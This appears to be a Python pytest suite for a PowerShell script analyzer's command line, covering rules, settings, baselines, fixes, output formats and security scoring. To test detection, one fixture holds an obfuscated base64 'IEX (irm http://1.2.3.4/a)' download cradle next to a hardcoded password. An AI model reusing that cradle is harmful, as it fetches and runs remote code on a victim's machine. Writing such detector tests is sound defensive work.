"""`psscript analyze` and `psscript rule` as a person and a program use them."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from pipeline.analysis.catalog import rule_names
from pipeline.analysis.detecting.catalog import detection_names
from pipeline.analysis.rules import PSAvoidUsingWriteHost
from workers import cli

CLEAN, FOUND, USAGE, INCOMPLETE = range(4)


@pytest.fixture(name="folder")
def _folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sub").mkdir()
    (tmp_path / "clean.ps1").write_text("$null = 1\n")
    (tmp_path / "sub" / "host.ps1").write_text("Write-Host 1 \n")
    (tmp_path / "sub" / "broken.psm1").write_text("if (\n")
    (tmp_path / "notes.txt").write_text("Write-Host 1\n")
    return tmp_path


def run(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, list[dict[str, Any]], str]:
    code = cli.main(["analyze", "--format", "jsonl", *arguments])
    said = capsys.readouterr()
    return code, [json.loads(line) for line in said.out.splitlines()], said.err


def rules(answer: dict[str, Any]) -> set[str]:
    return {finding["rule"] for finding in answer["findings"]}


def test_a_folder(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, answers, _ = run(capsys, ".")
    assert code == FOUND
    assert {Path(answer["path"]) for answer in answers} == {Path("clean.ps1"), Path("sub/broken.psm1"), Path("sub/host.ps1")}


@pytest.mark.parametrize(
    ("arguments", "code"),
    [
        (["clean.ps1"], CLEAN),
        (["sub/host.ps1"], FOUND),
        (["sub/host.ps1", "--fail-on", "error"], CLEAN),
        (["sub/host.ps1", "--exclude-rule", "PSAvoidUsingWriteHost"], CLEAN),
        (["sub/host.ps1", "--exclude-rule", "PSAvoidUsingWriteHost", "--fail-on", "Information"], FOUND),
        (["sub/host.ps1", "--include-rule", "psavoidtrailing*,PSReservedParams", "--severity", "information"], CLEAN),
        (["sub/broken.psm1"], FOUND),
        (["sub/broken.psm1", "--severity", "Error", "--fail-on", "ParseError"], FOUND),
        (["missing.ps1", "clean.ps1"], INCOMPLETE),
        (["missing.ps1", "sub/host.ps1"], INCOMPLETE),
        (["notes.txt"], CLEAN),
        (["clean.ps1", "--fail-on", "never"], USAGE),
        (["clean.ps1", "--severity", "loud"], USAGE),
        (["clean.ps1", "--settings", "none.psd1"], USAGE),
        (["clean.ps1", "--settings", "PSGallery", "--no-settings"], USAGE),
        (["-", "--fix"], USAGE),
        ([], USAGE),
    ],
)
def test_exit_codes(folder: Path, capsys: pytest.CaptureFixture[str], arguments: list[str], code: int) -> None:
    found, _, said = run(capsys, *arguments)
    assert found == code
    if code == USAGE:
        assert said.startswith("psscript analyze: ")
        assert said.count("\n") == 1


def test_answers_come_in_the_order_of_the_list_and_name_what_cannot_be_read(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    paths = ["sub/host.ps1", "missing.ps1", "clean.ps1", "./sub/../clean.ps1"]
    (folder / "list").write_text("\n".join(paths))
    _, answers, said = run(capsys, "--files-from", "list")
    assert [answer["path"] for answer in answers] == paths
    assert set(answers[1]) == {"path", "error"}
    assert "missing.ps1: " in said


def test_a_folder_that_cannot_be_read_is_named_and_the_rest_goes_on(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "loop.ps1").symlink_to("loop.ps1")
    code, answers, _ = run(capsys, ".")
    assert code == INCOMPLETE
    assert [answer["path"] for answer in answers if "error" in answer] == ["./loop.ps1"]
    assert len(answers) == 4


def test_standard_input(folder: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    for arguments, expected in ((["-"], set()), (["--filename", "x.psm1"], {"PSAvoidGlobalFunctions"})):
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"function global:Get-X { 1 }\n")))
        _, answers, _ = run(capsys, *arguments)
        assert [answer["path"] for answer in answers] == ["-"]
        assert rules(answers[0]) & {"PSAvoidGlobalFunctions"} == expected


def test_as_text_forgets_the_name(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "x.psm1").write_text("function global:Get-X { '\u00fc' }\n", encoding="utf-8")
    named, text = ({*rules(run(capsys, "x.psm1", *more)[1][0])} for more in ([], ["--as-text"]))
    assert named - text == {"PSAvoidGlobalFunctions", "PSUseBOMForUnicodeEncodedFile"}


def test_settings_beside_a_script(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "sub" / "PSScriptAnalyzerSettings.psd1").write_text("@{ ExcludeRules = 'PSAvoidUsingWriteHost' }")
    assert rules(run(capsys, "sub/host.ps1")[1][0]) == {"PSAvoidTrailingWhitespace"}
    assert "PSAvoidUsingWriteHost" in rules(run(capsys, "sub/host.ps1", "--no-settings")[1][0])
    (folder / "other.json").write_text('{"IncludeRules": ["PSAvoidUsingWriteHost"]}')
    assert rules(run(capsys, "sub/host.ps1", "--settings", "other.json")[1][0]) == {"PSAvoidUsingWriteHost"}
    (folder / "sub" / "PSScriptAnalyzerSettings.psd1").write_text("@{ ExcludeRules = Get-Date }")
    code, answers, said = run(capsys, ".")
    assert (code, answers, said.count("\n")) == (USAGE, [], 1)


def test_settings_of_the_folder_apply_below_it(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "PSScriptAnalyzerSettings.psd1").write_text("@{ IncludeRules = 'PSAvoidUsingWriteHost' }")
    answers = {answer["path"]: answer for answer in run(capsys, str(folder))[1]}
    assert rules(answers[str(folder / "sub" / "host.ps1")]) == {"PSAvoidUsingWriteHost"}


def test_suppressed_findings_are_shown_on_demand_and_never_fail(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "x.ps1").write_text("[Diagnostics.CodeAnalysis.SuppressMessageAttribute('PSAvoidUsingWriteHost', '')]\nparam()\nWrite-Host 1\n")
    code, (answer,), _ = run(capsys, "x.ps1")
    assert (code, answer["findings"]) == (CLEAN, [])
    code, (answer,), _ = run(capsys, "x.ps1", "--include-suppressed")
    assert (code, [finding["suppressed"] for finding in answer["findings"]]) == (CLEAN, [True])


def test_baseline(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["analyze", "sub/host.ps1", "--format", "json"]) == FOUND
    (folder / "known.json").write_text(capsys.readouterr().out)
    assert run(capsys, "sub/host.ps1", "--baseline", "known.json")[:2] == (CLEAN, [{"path": "sub/host.ps1", "findings": [], "notes": []}])
    (folder / "sub" / "host.ps1").write_text("# new\nWrite-Host 1 \nWrite-Host 2\n")
    code, (answer,), _ = run(capsys, "sub/host.ps1", "--baseline", "known.json")
    assert (code, [finding["line"] for finding in answer["findings"]]) == (FOUND, [3])


def test_fix_writes_and_reports_what_is_left(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = folder / "sub" / "host.ps1"
    path.chmod(0o640)
    _, (answer,), _ = run(capsys, "sub/host.ps1", "--fix")
    assert path.read_text() == "Write-Host 1\n"
    assert path.stat().st_mode & 0o777 == 0o640
    assert rules(answer) == {"PSAvoidUsingWriteHost"}
    assert [entry.name for entry in path.parent.iterdir() if entry.name.startswith(".")] == []


def test_fix_goes_through_links(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "link.ps1").symlink_to("sub/host.ps1")
    run(capsys, "link.ps1", "--fix")
    assert (folder / "link.ps1").is_symlink()
    assert (folder / "sub" / "host.ps1").read_text() == "Write-Host 1\n"


def test_several_processes_say_the_same_as_one(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for number in range(120):
        (folder / "sub" / f"{number}.ps1").write_text(f"Write-Host {number} \n" * (number % 7))
    one, two = (run(capsys, ".", "--jobs", jobs) for jobs in ("1", "2"))
    assert one == two
    assert len(one[1]) == 123


def test_a_rule_that_raises_is_told(folder: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(PSAvoidUsingWriteHost, "_is_left_alone", None)
    code, (answer,), said = run(capsys, "sub/host.ps1")
    assert code == INCOMPLETE
    assert rules(answer) == {"PSAvoidTrailingWhitespace"}
    assert "PSAvoidUsingWriteHost failed" in answer["notes"][0]
    assert "PSAvoidUsingWriteHost failed" in said


def test_text_is_for_people(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["analyze", "sub/host.ps1", "--colour", "always"]) == FOUND
    said = capsys.readouterr().out
    assert "\x1b[33mWarning\x1b[0m  PSAvoidUsingWriteHost" in said
    assert "Write-Host 1" in said


def test_every_rule_has_a_page_to_show(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["rule"]) == CLEAN
    assert [line.split()[0] for line in capsys.readouterr().out.splitlines()] == [*rule_names(), *detection_names()]
    assert cli.main(["rule", "avoidusingwritehost"]) == CLEAN
    assert capsys.readouterr().out.startswith("# PSAvoidUsingWriteHost\n")
    assert cli.main(["rule", "PSAvoidUsingWritehosts"]) == USAGE
    assert "Did you mean PSAvoidUsingWriteHost?" in capsys.readouterr().err
    assert cli.main(["rule", "--json"]) == CLEAN
    assert {each["name"] for each in json.loads(capsys.readouterr().out)} == {*rule_names(), *detection_names()}


def test_every_detection_has_a_page_to_show(capsys: pytest.CaptureFixture[str]) -> None:
    for name in ("PS012", "ps012_downloadcradle"):
        assert cli.main(["rule", name]) == CLEAN
        assert capsys.readouterr().out.startswith("# PS012_DownloadCradle\n")
    assert cli.main(["rule", "PS012", "--json"]) == CLEAN
    (answer,) = json.loads(capsys.readouterr().out)
    assert (answer["name"], answer["attack"], answer["cwe"]) == ("PS012_DownloadCradle", ["T1105", "T1059.001"], ["CWE-494"])


SECRET = "hunter2-Secret9"
WRAPPED = "SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcAA6AC8ALwAxAC4AMgAuADMALgA0AC8AYQApAA=="
DANGEROUS = f"$password = '{SECRET}'\nIEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{WRAPPED}')))\n"
SCORES = ["malice", "hygiene", "security", "quality", "risk"]


def detections(answer: dict[str, Any]) -> set[str]:
    return {name.partition("_")[0] for name in rules(answer) & set(detection_names())}


@pytest.fixture(name="dangerous")
def _dangerous(folder: Path) -> str:
    (folder / "dangerous.ps1").write_text(DANGEROUS)
    return "dangerous.ps1"


def test_what_security_layers_and_explain_add(dangerous: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, (answer,), _ = run(capsys, dangerous, "--security", "--layers", "--explain")
    assert code == FOUND
    assert {"PS001", "PS011", "PS012"} <= detections(answer)
    assert list(answer["scores"]) == SCORES
    assert answer["scores"]["malice"] >= 50
    assert all(value is not None for value in answer["scores"].values())
    assert [layer["how"] for layer in answer["layers"]] == ["Invoke-Expression: base64"]
    assert all(answer["reasons"][name] for name in SCORES)
    assert all(set(reason) == {"points", "text", "rule"} for reasons in answer["reasons"].values() for reason in reasons)
    assert SECRET not in json.dumps(answer)


def test_scores_that_are_unknown_say_why(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _, (answer,), _ = run(capsys, "sub/broken.psm1", "--explain")
    assert answer["scores"]["quality"] is None
    assert "cannot read this script" in answer["reasons"]["quality"][0]["text"]
    (folder / "about_It.help.txt").write_text("Invoke-Expression $it\n")
    code, (answer,), _ = run(capsys, "about_It.help.txt", "--security", "--layers", "--explain")
    assert (code, answer["scores"], answer["layers"]) == (CLEAN, dict.fromkeys(SCORES), [])


@pytest.mark.parametrize("options", [["--layers"], ["--explain"], []])
def test_without_security_findings_are_those_of_rules(dangerous: str, options: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    _, (answer,), _ = run(capsys, dangerous, *options)
    assert not detections(answer)


@pytest.mark.parametrize("name", ["text", "json", "jsonl", "sarif", "junit", "github", "markdown"])
def test_every_format_tells_scores_layers_and_no_secret(dangerous: str, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["analyze", dangerous, "--security", "--layers", "--explain", "--format", name]) == FOUND
    said = capsys.readouterr().out
    assert SECRET not in said
    assert all(score in said for score in SCORES)
    assert "Invoke-Expression: base64" in said.replace("%3A", ":")
    assert "layer" in said


def test_text_tells_in_which_layer(dangerous: str, capsys: pytest.CaptureFixture[str]) -> None:
    cli.main(["analyze", dangerous, "--security", "--layers", "--explain"])
    said = capsys.readouterr().out
    assert "in layer 1, 1:1: IEX (irm http://1.2.3.4/a)" in said
    assert "(T1105, T1059.001, CWE-494)" in said
    assert "(treat it as an attack)" in said
    assert "    hygiene   -40  " in said


@pytest.mark.parametrize(
    ("options", "wanted"),
    [
        (["--include-rule", "PS012"], {"PS012"}),
        (["--include-rule", "PS001_SecretLiteral,PS012"], {"PS001", "PS012"}),
        (["--include-rule", "PSAvoidUsingWriteHost"], {"PS001", "PS011", "PS012", "PS055", "PS065"}),
        (["--exclude-rule", "PS0[156]*"], {"PS001"}),
        (["--severity", "Critical"], {"PS012"}),
        (["--severity", "Error"], {"PS001", "PS011", "PS012", "PS055", "PS065"}),
    ],
)
def test_choosing_detections(dangerous: str, options: list[str], wanted: set[str], capsys: pytest.CaptureFixture[str]) -> None:
    _, (answer,), _ = run(capsys, dangerous, "--security", *options)
    assert detections(answer) >= wanted - {"PS011"}
    assert detections(answer) <= wanted


def test_what_suppresses_a_detection_hides_it_and_changes_no_score(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    attribute = "[Diagnostics.CodeAnalysis.SuppressMessageAttribute('{}', '')]\nparam()\n"
    answers = []
    for name in ("PS012", "ps012_DownloadCradle", "PS999"):
        (folder / "quiet.ps1").write_text(attribute.format(name) + DANGEROUS)
        answers.append(run(capsys, "quiet.ps1", "--security", "--layers", "--include-rule", "PS012")[1][0])
    assert [bool(answer["findings"]) for answer in answers] == [False, False, True]
    assert answers[0]["scores"] == answers[2]["scores"]
    _, (answer,), _ = run(capsys, "quiet.ps1", "--security", "--include-suppressed", "--include-rule", "PS012")
    assert [finding["suppressed"] for finding in answer["findings"]] == [False]


def test_settings_may_name_detections(dangerous: str, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "PSScriptAnalyzerSettings.psd1").write_text("@{ ExcludeRules = 'PS001', 'PS011_InvokeExpression' }")
    _, (answer,), _ = run(capsys, dangerous, "--security")
    assert "PS012" in detections(answer)
    assert not {"PS001", "PS011"} & detections(answer)


@pytest.mark.parametrize(("least", "code"), [("Critical", FOUND), ("Error", FOUND)])
def test_detections_count_for_the_exit_code(dangerous: str, least: str, code: int, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, dangerous, "--security", "--fail-on", least)[0] == code
    assert run(capsys, dangerous, "--security", "--fail-on", least, "--exclude-rule", "PS*")[0] == CLEAN


def test_judging_imports_nothing_but_the_standard_library() -> None:
    program = (
        "import sys; before = set(sys.modules); import workers.analyze.processes; from pipeline.analysis.catalog import load_rules; load_rules();"
        "print([m for m in set(sys.modules) - before if m.partition('.')[0] not in sys.stdlib_module_names | {'pipeline', 'workers', '__mp_main__'}])"
    )
    assert subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True).stdout == "[]\n"
